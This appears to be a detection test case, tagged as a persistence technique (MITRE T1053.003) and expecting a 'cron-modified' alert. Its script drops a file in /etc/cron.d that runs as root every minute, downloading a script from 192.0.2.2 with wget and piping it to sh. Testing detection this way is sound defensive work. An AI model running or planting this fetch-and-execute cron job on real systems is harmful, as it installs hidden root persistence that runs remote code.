# category: persistence
# technique: T1053.003
# art: no
# expect: cron-modified
# desc: a cron job that fetches and runs a script every minute is dropped into /etc/cron.d
mkdir -p /etc/cron.d
echo '* * * * * root wget -q -O- http://192.0.2.2/stage.sh | sh' > /etc/cron.d/0update
